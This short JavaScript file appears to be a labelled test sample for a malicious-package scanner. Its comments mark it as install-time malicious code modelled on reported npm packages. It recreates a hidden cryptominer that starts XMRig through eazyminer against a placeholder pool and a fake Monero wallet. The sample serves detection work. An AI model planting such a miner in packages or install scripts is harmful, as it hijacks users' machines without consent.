// when: install
// expect: malicious
// source: random-named packages depending on eazyminer (an XMRig wrapper), reported by Sonatype and
// Checkmarx (2021-2023): the install script starts a Monero miner with a hard-coded pool and wallet.
const Eazyminer = require('eazyminer');

const miner = new Eazyminer({
  pools: [{ coin: 'XMR', user: '4FAKEFAKEFAKEXMRWALLET', url: 'pool.hashvault.example:80' }],
  web: { enabled: false },
});
miner.start();
